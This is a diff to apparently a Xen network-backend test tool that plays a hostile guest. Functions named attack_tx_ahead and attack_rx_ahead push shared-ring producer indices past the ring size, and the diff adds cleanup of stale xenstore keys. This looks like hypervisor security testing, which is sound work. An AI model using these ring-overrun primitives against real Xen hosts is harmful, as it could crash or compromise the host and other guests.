@@ -153,10 +153,29 @@ reset(struct guest *g)
 	wait_backend(g, XenbusStateInitWait);
 }
 
+/* What another frontend has left, and what would say other things than this one. */
+static void
+remove_stale(struct guest *g)
+{
+	static const char *const keys[] = {
+		"multi-queue-num-queues",
+		"event-channel-tx",
+		"event-channel-rx",
+	};
+	char path[2 * PATH_LEN];
+	size_t i;
+
+	for (i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
+		snprintf(path, sizeof(path), "%s/%s", g->front, keys[i]);
+		xs_rm(g->xs, XBT_NULL, path);
+	}
+}
+
 static void
 connect_rings(struct guest *g)
 {
 	reset(g);
+	remove_stale(g);
 	memset(g->tx, 0, XEN_PAGE_BYTES);
 	memset(g->rx, 0, XEN_PAGE_BYTES);
 	g->tx->req_event = 1;
@@ -191,10 +210,13 @@ attack_tx_ahead(struct guest *g)
 	xen_ring_store(&g->tx->req_prod, XEN_NETIF_RING_SIZE + 1);
 }
 
+/* Found out when there is a frame for this guest: it sends one, which has to come back to it. */
 static void
 attack_rx_ahead(struct guest *g)
 {
+	put_tx(g, 0, 0, 100, 0);
 	xen_ring_store(&g->rx->req_prod, XEN_NETIF_RING_SIZE + 1);
+	xen_ring_store(&g->tx->req_prod, 1);
 }
 
 static void
